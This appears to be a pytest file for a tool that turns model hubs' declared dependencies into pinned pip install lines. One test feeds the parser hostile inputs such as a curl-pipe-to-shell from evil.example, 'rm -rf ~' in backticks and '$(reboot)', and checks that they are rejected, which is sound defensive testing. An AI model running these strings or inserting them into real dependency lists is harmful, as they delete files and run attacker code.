"""From a hub's `dependencies` (import names) to the pip line a model page and its notebook show, pinned to
the versions the build verified with when there are some."""

from __future__ import annotations

import pytest

from generator.catalogue import Catalogue
from generator.config import load_config
from generator.environments.requirements import DISTRIBUTIONS, distribution
from generator.lock.records import Environment
from generator.render.requirements import (
    install_requirements,
    pinned,
    pip_install_line,
    requirements,
    verified_versions,
)
from generator.render.view import model_view
from support.hubrepos import PROJECT_ROOT

SITE = "https://pinhub.github.io/pinhub/"
PREFIX = f"pip install --extra-index-url {SITE}simple/ pinhub"

# What the catalogue's hubs declare in `dependencies` (or import at load without declaring), as their
# hubconf.py files show, and the distribution pip must install for each.
CATALOGUE_HUBS = {
    "HybridNets": (
        ["efficientnet_pytorch", "pretrainedmodels", "PyYAML", "timm", "torch", "torchvision"],
        ["efficientnet-pytorch", "pretrainedmodels", "PyYAML", "timm", "torchvision"],
    ),
    "PyTorch-Transformers": (
        ["torch", "numpy", "tokenizers", "requests", "regex", "sentencepiece", "importlib_metadata", "huggingface_hub"],
        ["numpy", "tokenizers", "requests", "regex", "sentencepiece", "importlib-metadata", "huggingface-hub"],
    ),
    "fairseq": (
        ["dataclasses", "hydra", "numpy", "omegaconf", "regex", "requests", "torch"],
        ["hydra-core", "numpy", "omegaconf", "regex", "requests"],
    ),
    "YOLOv5": (["torch", "yaml"], ["pyyaml"]),
    "YOLOP": (["torch", "cv2", "prefetch_generator", "yacs"], ["opencv-python", "prefetch-generator", "yacs"]),
    "MiDaS": (["torch", "cv2", "timm"], ["opencv-python", "timm"]),
    "NVIDIA ConvNets helpers": (["PIL", "validators", "requests"], ["pillow", "validators", "requests"]),
    "NVIDIA SSD helpers": (["numpy", "skimage"], ["numpy", "scikit-image"]),
    "MEAL V2": (["timm", "torch"], ["timm"]),
    "Silero VAD": (["torch", "torchaudio"], ["torchaudio"]),
    "Open-Unmix": (["torch", "numpy"], ["numpy"]),
    "PGAN and DCGAN": (
        ["torch", "torchvision", "visdom", "numpy", "h5py", "scipy"],
        ["torchvision", "visdom", "numpy", "h5py", "scipy"],
    ),
}


@pytest.mark.parametrize(("declared", "expected"), list(CATALOGUE_HUBS.values()), ids=list(CATALOGUE_HUBS))
def test_the_catalogues_hubs_get_the_distributions_pip_needs(declared: list[str], expected: list[str]) -> None:
    wanted, rejected = requirements(declared)
    assert wanted == expected
    assert rejected == []


@pytest.mark.parametrize(
    ("import_name", "dist"),
    [
        ("cv2", "opencv-python"),
        ("PIL", "pillow"),
        ("sklearn", "scikit-learn"),
        ("yaml", "pyyaml"),
        ("skimage", "scikit-image"),
        ("hydra", "hydra-core"),
        ("google.protobuf", "protobuf"),
        ("numpy", "numpy"),  # the same name on both sides
    ],
)
def test_import_names_map_to_distributions(import_name: str, dist: str) -> None:
    assert distribution(import_name) == dist


def test_every_mapping_names_a_plain_distribution_that_maps_to_itself() -> None:
    for import_name, dist in DISTRIBUTIONS.items():
        assert requirements([dist]) == ([dist], []), f"{import_name} → {dist} is not a plain requirement"
        assert distribution(dist) == dist, f"{import_name} → {dist} → {distribution(dist)}: mappings must not chain"


def test_version_specifiers_and_extras_survive_the_mapping() -> None:
    wanted, _ = requirements(["PIL>=9.0", "cv2 ==4.8.1.78", "hydra[joblib]~=1.3", "numpy>=1.24,<3"])
    assert wanted == ["pillow>=9.0", "opencv-python ==4.8.1.78", "hydra-core[joblib]~=1.3", "numpy>=1.24,<3"]


def test_torch_pinhub_and_the_standard_library_are_not_installed() -> None:
    wanted, rejected = requirements(["torch", "torch>=2", "pinhub", "dataclasses", "json", "xml.etree", "os"])
    assert wanted == []
    assert rejected == []


def test_duplicates_are_listed_once_in_first_seen_order() -> None:
    wanted, _ = requirements(["yaml", "numpy", "pyyaml", "yaml", "numpy"])
    assert wanted == ["pyyaml", "numpy"]


@pytest.mark.parametrize(
    "hostile",
    [
        "evil`rm -rf ~`",
        "numpy; curl https://evil.example | sh",
        "--index-url https://evil.example/simple",
        "-e git+https://evil.example/x.git",
        "$(reboot)",
        "pkg @ https://evil.example/pkg.whl",
    ],
)
def test_anything_but_a_plain_requirement_is_rejected(hostile: str) -> None:
    wanted, rejected = requirements([hostile, "numpy"])
    assert wanted == ["numpy"]
    assert rejected == [hostile]
    assert pip_install_line(SITE, [hostile]) == PREFIX
    assert pip_install_line(SITE, install_requirements([hostile], None)) == PREFIX


def test_the_pip_line_installs_pinhub_from_the_site_and_quotes_specifiers() -> None:
    wanted = install_requirements(["torch", "cv2", "numpy>=1.24", "hydra[joblib]", "PIL"], None)
    line = pip_install_line(SITE, wanted)
    assert line == f'{PREFIX} opencv-python "numpy>=1.24" "hydra-core[joblib]" pillow'


def test_a_hub_without_dependencies_installs_pinhub_alone() -> None:
    assert pip_install_line(SITE, install_requirements([], None)) == PREFIX
    assert pip_install_line(SITE, install_requirements(["torch"], None)) == PREFIX


def test_the_catalogue_can_add_requirements_a_hub_forgot_to_declare() -> None:
    """An entry's own `requirements` join the hub's declared dependencies on an unverified page's install line."""
    catalogue = Catalogue.model_validate(
        {
            "categories": [{"id": "vision", "title": "Vision"}],
            "models": [
                {
                    "id": "hub",
                    "title": "Hub",
                    "summary": "s",
                    "repo": "owner/name",
                    "awaiting_pin": "not yet",
                    "category": "vision",
                    "requirements": ["opencv-python", "timm>=0.9"],
                }
            ],
        }
    )
    view = model_view(catalogue.models[0], None, catalogue, load_config(PROJECT_ROOT))
    assert view.pip_line.endswith('-py3-none-any.whl opencv-python "timm>=0.9"')


def test_pinhub_comes_from_the_wheel_the_site_ships_when_there_is_one() -> None:
    """An index, even an extra one, would let pip take another project called pinhub from PyPI."""
    line = pip_install_line(SITE, install_requirements(["torch", "PIL"], None), "1.2.3")
    assert line == f"pip install {SITE}simple/pinhub/pinhub-1.2.3-py3-none-any.whl pillow"


ENVIRONMENT = Environment(
    python="3.11",
    packages=[
        "Pillow==11.0.0",
        "hydra-core==1.3.2",
        "opencv-python==4.10.0.84",
        "torch==2.14.1+cu128",
        "torchvision==0.29.1",
    ],
)


def test_a_verified_environment_pins_torch_torchvision_and_each_requirement() -> None:
    wanted = ["PIL", "hydra-core[joblib]>=1.3", "opencv-python", "torchvision", "not-installed>=1"]
    assert pinned(wanted, ENVIRONMENT) == [
        "torch==2.14.1",  # the local label goes: PyPI's 2.14.1 is what a reader installs
        "torchvision==0.29.1",
        "pillow==11.0.0",
        "hydra-core[joblib]==1.3.2",
        "opencv-python==4.10.0.84",
        "not-installed>=1",  # the environment lacks it: kept as asked for
    ]
    assert verified_versions(wanted, ENVIRONMENT) == [
        "torch 2.14.1+cu128",
        "torchvision 0.29.1",
        "pillow==11.0.0",
        "hydra-core==1.3.2",
        "opencv-python==4.10.0.84",
    ]


def test_an_environment_without_torchvision_pins_only_what_it_has() -> None:
    environment = Environment(python="3.12", packages=["torch==2.14.1", "numpy==2.1.3", "odd==1.0 <b>"])
    assert pinned(["numpy", "torchvision", "odd"], environment) == [
        "torch==2.14.1",
        "numpy==2.1.3",
        "torchvision",  # asked for, not installed: unpinned rather than dropped
        "odd",  # its recorded version is not a version: nothing of it reaches the page
    ]
